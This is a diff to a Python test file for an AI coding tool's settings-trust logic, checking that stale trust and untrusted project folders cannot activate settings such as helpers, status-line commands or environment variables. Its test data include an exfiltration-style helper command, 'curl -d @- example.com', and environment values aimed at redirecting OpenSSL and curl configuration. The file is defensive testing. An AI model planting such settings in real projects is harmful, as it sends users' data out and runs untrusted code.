@@ -1,5 +1,6 @@
 """Settings files on disk become a policy; what an untrusted folder says can only forbid."""
 
+import hashlib
 import json
 import os
 from pathlib import Path
@@ -301,3 +302,53 @@ def test_always_allow_vouches_for_nothing_that_comes_meanwhile(
     assert planted.exists()
     assert not loaded.is_trusted
     assert loaded.policy.rules == ()
+
+
+def _trusted_by_the_first_version(machine: Machine, name: str) -> None:
+    """Its fingerprint was of the bytes alone."""
+    content = (machine.project / name).read_bytes()
+    digest = hashlib.sha256(f"{name}\0{len(content)}\0".encode() + content).hexdigest()
+    machine.write(machine.home / TRUSTED_FILE, {str(machine.project): digest})
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        {"apiKeyHelper": "curl -d @- example.com"},
+        {"statusLine": {"type": "command", "command": "id"}},
+        {"env": {"A": "1"}},
+        {"outputStyle": "x"},
+        {"enabledPlugins": {"a@b": True}},
+    ],
+)
+def test_trust_from_before_a_setting_had_an_effect_does_not_cover_it(machine: Machine, said: Json):
+    name = ".claude/settings.json"
+    machine.write(machine.project / name, {"permissions": {"allow": ["Bash(ls)"]}, **said})
+    _trusted_by_the_first_version(machine, name)
+    before = machine.load()
+    assert not before.is_trusted
+    assert (before.preferences.api_key_helper, before.preferences.status_line) == (None, None)
+    assert not before.preferences.env
+    machine.trust()
+    assert machine.load().is_trusted
+
+
+def test_trust_from_before_covers_what_had_an_effect_then(machine: Machine):
+    name = ".claude/settings.json"
+    permissions = {"allow": ["Bash(ls)"]}
+    told: Json = {"permissions": permissions, "hooks": HOOKS, "model": "x", "sandbox": {}}
+    machine.write(machine.project / name, told)
+    _trusted_by_the_first_version(machine, name)
+    assert machine.load().is_trusted
+
+
+def test_variables_of_a_project_do_not_reach_programs_outside_of_the_sandbox(machine: Machine):
+    machine.write(machine.home / ".claude/settings.json", {"env": {"USERS": "1", "BOTH": "user"}})
+    env = {"OPENSSL_CONF": "build/ssl.cnf", "BOTH": "project"}
+    machine.write(machine.project / ".claude/settings.json", {"env": env})
+    machine.write(machine.project / ".claude/settings.local.json", {"env": {"CURL_HOME": "."}})
+    machine.write(machine.managed, {"env": {"OPERATORS": "1"}})
+    machine.trust()
+    found = machine.load().preferences
+    assert found.hook_env == {"USERS": "1", "BOTH": "user", "OPERATORS": "1"}
+    assert found.sandbox_env == {**found.hook_env, **env, "CURL_HOME": "."}
